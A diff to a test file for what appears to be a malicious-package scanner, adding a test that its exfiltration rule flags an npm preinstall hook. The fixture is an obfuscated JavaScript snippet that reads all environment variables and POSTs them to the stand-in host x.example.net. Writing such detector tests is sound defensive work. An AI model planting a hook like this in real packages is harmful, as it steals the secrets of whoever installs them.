@@ -72,3 +72,14 @@ def test_sending_to_a_public_address(engine: Engine) -> None:
     assert run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": code}))
     local = code.replace("45.12.77.3", "127.0.0.1")
     assert run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": local})) is None
+
+
+def test_install_script_sending_the_environment_is_exfiltration(engine: Engine) -> None:
+    script = (
+        "const h = require('https');\n"
+        "var all = process['en' + 'v'] || {};\n"
+        "h.request({ host: 'x.example.net', method: 'POST' }).write(JSON.stringify(all));\n"
+    )
+    archive = npm_tarball({"b.js": script}, scripts={"preinstall": "node b.js"})
+    evidence = run_rule(engine, data_exfiltration_rule, archive)
+    assert {"harvest", "network"} <= set(evidence[0]["capabilities"])
